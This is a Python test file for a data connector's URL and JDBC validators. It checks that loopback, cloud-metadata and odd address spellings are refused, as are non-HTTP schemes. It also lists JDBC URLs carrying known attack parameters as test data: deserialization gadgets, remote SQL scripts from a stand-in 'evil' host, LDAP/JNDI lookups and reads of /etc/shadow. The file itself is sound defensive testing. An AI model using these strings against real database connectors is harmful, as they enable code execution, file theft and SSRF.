"""Addresses that connectors may call, and databases."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from riacho.pipelines.reach.jdbc import driver_refusal, jdbc_refusal
from riacho.pipelines.reach.limits import Limits
from riacho.pipelines.reach.urls import address_class, address_refusal, matches, url_refusal

USUAL = ("public", "private")


@pytest.mark.parametrize(
    ("address", "kind"),
    [
        ("93.184.216.34", "public"), ("2606:2800:220::1", "public"), ("10.0.0.1", "private"), ("172.16.9.9", "private"),
        ("192.168.1.1", "private"), ("100.64.0.1", "private"), ("fd12::1", "private"), ("127.0.0.1", "loopback"),
        ("127.8.8.8", "loopback"), ("0.0.0.0", "loopback"), ("::1", "loopback"), ("::", "loopback"),
        ("::ffff:127.0.0.1", "loopback"), ("64:ff9b::7f00:1", "loopback"), ("169.254.169.254", None),
        ("::ffff:169.254.169.254", None), ("64:ff9b::a9fe:a9fe", None), ("fe80::1", None), ("fe80::1%eth0", None),
        ("fd00:ec2::254", None), ("100.100.100.200", None), ("224.0.0.1", None),
    ],
)  # fmt: skip
def test_classes(address: str, kind: str | None) -> None:
    assert address_class(address) == kind


@pytest.mark.parametrize("host", ["127.0.0.1", "localhost", "[::1]", "169.254.169.254", "0.0.0.0", "u:p@127.0.0.1"])
def test_this_machine_and_its_neighbours_are_refused(host: str) -> None:
    trouble = url_refusal(f"http://{host}:80/latest/meta-data", USUAL, resolve=False)
    assert trouble is not None
    assert "riacho.connectors.allowed.urls" in trouble
    assert "u:p" not in trouble


@pytest.mark.parametrize("host", ["2130706433", "0x7f000001", "0177.0.0.1", "127.1", "rebound.example"])
def test_names_and_odd_spellings_are_judged_by_what_they_lead_to(host: str, monkeypatch: pytest.MonkeyPatch) -> None:
    def lookup(*_: Any, **__: Any) -> list[Any]:
        return [(2, 1, 6, "", ("93.184.216.34", 0)), (2, 1, 6, "", ("127.0.0.1", 0))]

    monkeypatch.setattr("socket.getaddrinfo", lookup)
    assert url_refusal(f"http://{host}/", USUAL, resolve=False) is None
    assert url_refusal(f"http://{host}/", USUAL, resolve=True) is not None
    assert address_refusal(f"http://{host}/", "127.0.0.1", USUAL) is not None
    assert address_refusal(f"http://{host}/", "93.184.216.34", USUAL) is None


@pytest.mark.parametrize("url", ["file:///etc/passwd", "ftp://h/x", "gopher://h", "http://", "http://[x", "h:80", ""])
def test_only_http(url: str) -> None:
    assert url_refusal(url, ("*",), resolve=False) is not None


def test_addresses_that_are_named() -> None:
    named = ("http://api.example:8080/v1", "https://*.shop.example", "http://127.0.0.1:8081")
    for url in ("http://api.example:8080/v1", "http://API.example:8080/v1/x?y", "https://a.shop.example/z"):
        assert matches(url, named)
    for url in ("http://localhost:8081/subjects", "http://[::1]:8081"):
        assert matches(url, named)
    for url in (
        "http://api.example:8080/v10", "http://api.example:8080/v1/../admin", "http://api.example/v1",
        "https://api.example:8080/v1", "https://shop.example.evil", "https://evil.example/?a.shop.example",
        "http://127.0.0.1:8082", "http://api.example:8080/v1/%2e%2e/admin", "https://evil@shop.example.evil",
    ):  # fmt: skip
        assert not matches(url, named)
    assert url_refusal("http://api.example:8080/v1", named, resolve=False) is None
    assert url_refusal("http://other.example", named, resolve=False) is not None


@pytest.mark.parametrize(
    "url",
    [
        "jdbc:postgresql://db:5432/shop?user=a&password=b&sslmode=require",
        "jdbc:postgresql:shop",
        "jdbc:mysql://db/shop?useSSL=true",
        "jdbc:sqlserver://db:1433;databaseName=shop;encrypt=true",
        "jdbc:oracle:thin:@//db:1521/shop",
        "jdbc:oracle:thin:@db:1521:shop",
    ],
)
def test_usual_databases(url: str) -> None:
    assert jdbc_refusal(url, Limits()) is None


@pytest.mark.parametrize(
    "url",
    [
        "jdbc:postgresql://db/shop?socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext",
        "jdbc:postgresql://db/shop?user=a&sslfactory=x&sslfactoryarg=http://evil",
        "jdbc:postgresql://db/shop?loggerFile=/etc/cron.d/x",
        "jdbc:mysql://db/shop?autoDeserialize=true&queryInterceptors=x",
        "jdbc:mysql://db/shop?allowLoadLocalInfile=true",
        "jdbc:mysql://address=(host=evil)(autoDeserialize=true)/shop",
        "jdbc:mysql://(host=evil,autoDeserialize=true)/shop",
        "jdbc:mariadb://db/shop?credentialType=x",
        "jdbc:sqlserver://db;databaseName=shop;socketFactoryClass=x",
        "jdbc:oracle:thin:@ldap://evil/cn",
        "jdbc:oracle:thin:@(DESCRIPTION=(ADDRESS=(HOST=x)))",
        "jdbc:oracle:oci:@x",
        "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'",
        "jdbc:derby:x;create=true",
        "jdbc:db2://h/x:clientRerouteServerListJNDIName=ldap://evil/x;",
        "jdbc:hive2://h/x",
        "jdbc:postgresql://169.254.169.254/shop",
        "jdbc:postgresql://db,169.254.169.254:5432/shop",
        "jdbc:sqlite::resource:http://evil/x.db",
        "jdbc:sqlite:file:/etc/x",
        "jdbc:sqlite:/etc/shadow",
        "jdbc:sqlite:/tmp/a.db?enable_load_extension=true",
        "jndi:ldap://evil",
        "jdbc:postgresql:",
        "",
    ],
)
def test_databases_that_could_run_code_or_are_not_known_are_refused(url: str) -> None:
    trouble = jdbc_refusal(url, Limits())
    assert trouble is not None
    assert "evil" not in trouble


def test_sqlite_is_a_file_like_others(tmp_path: Path) -> None:
    assert jdbc_refusal(f"jdbc:sqlite:{tmp_path}/a.db", Limits(paths=(str(tmp_path),), kept=())) is None
    assert jdbc_refusal(f"jdbc:sqlite:{tmp_path}/../a.db", Limits(paths=(str(tmp_path),), kept=())) is not None


def test_what_the_owner_names_besides_is_the_owners_business() -> None:
    assert jdbc_refusal("jdbc:h2:mem:x", Limits(jdbc=("h2",))) is None
    assert "riacho.connectors.allowed.jdbc" in (jdbc_refusal("jdbc:mysql://db/shop", Limits(jdbc=("h2",))) or "")


def test_a_driver_is_the_usual_one() -> None:
    assert driver_refusal("org.postgresql.Driver", "jdbc:postgresql:x") is None
    assert driver_refusal("com.evil.Driver", "jdbc:postgresql:x") is not None
    assert driver_refusal("com.evil.Driver", "jdbc:h2:x") is not None
